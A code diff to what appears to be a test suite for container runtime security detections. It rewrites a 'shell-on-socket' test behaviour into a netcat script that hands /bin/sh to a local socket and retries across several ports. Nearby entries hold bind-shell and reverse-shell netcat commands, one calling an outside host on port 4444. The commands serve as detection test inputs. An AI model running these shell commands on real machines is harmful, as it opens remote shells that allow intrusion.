@@ -66,6 +66,20 @@ ALERT_TIMEOUT = 150.0
 ATTEMPTS = 3
 
 
+#: Listen on a port below the ephemeral range (so no outgoing connection of the machine holds it), and connect
+#: a shell to it; when the listener exits (its port is taken), the next port.
+SHELL_ON_SOCKET = """
+for port in 31514 31515 31516 31517 31518 31519; do
+  nc -lp $port & listener=$!
+  while kill -0 $listener 2>/dev/null; do
+    nc 127.0.0.1 $port -e /bin/sh && exit 0
+    sleep 0.1
+  done
+done
+exit 1
+"""
+
+
 @dataclass(frozen=True)
 class Behaviour:
     """What a container does and the alert it must raise: ``detection``, with evidence of ``kind`` from it."""
@@ -84,11 +98,11 @@ BEHAVIOURS = [
     Behaviour("bind-shell", ["nc", "-lp", "47113"], "runtime.network_tool_in_container", "process.exec"),
     Behaviour("reverse-shell", ["nc", "-w", "1", OUTSIDE, "4444", "-e", "/bin/sh"], "runtime.reverse_shell",
               "process.exec"),
-    # A shell handed to a connection (nc -e dup2s the socket onto its stdin and stdout), to a listener of its own
-    # (tried again until the listener is up).
-    Behaviour("shell-on-socket",
-              ["sh", "-c", "nc -lp 47114 & until nc 127.0.0.1 47114 -e /bin/sh; do sleep 0.1; done"],
-              "runtime.stdio_redirected_to_socket", "net.stdio_redirect"),
+    # A shell handed to a connection (nc -e dup2s the socket onto its stdin and stdout), to a listener of its own,
+    # tried again until the listener is up. The pod is on the node's network: a listener that cannot bind its
+    # port (taken by something else on the machine) exits, and the next port is tried.
+    Behaviour("shell-on-socket", ["sh", "-c", SHELL_ON_SOCKET], "runtime.stdio_redirected_to_socket",
+              "net.stdio_redirect"),
     # arping opens its packet socket before it finds that loopback has no ARP: nothing is sent.
     Behaviour("packet-socket", ["arping", "-c", "1", "-I", "lo", "127.0.0.1"], "runtime.packet_socket_in_container",
               "net.socket"),
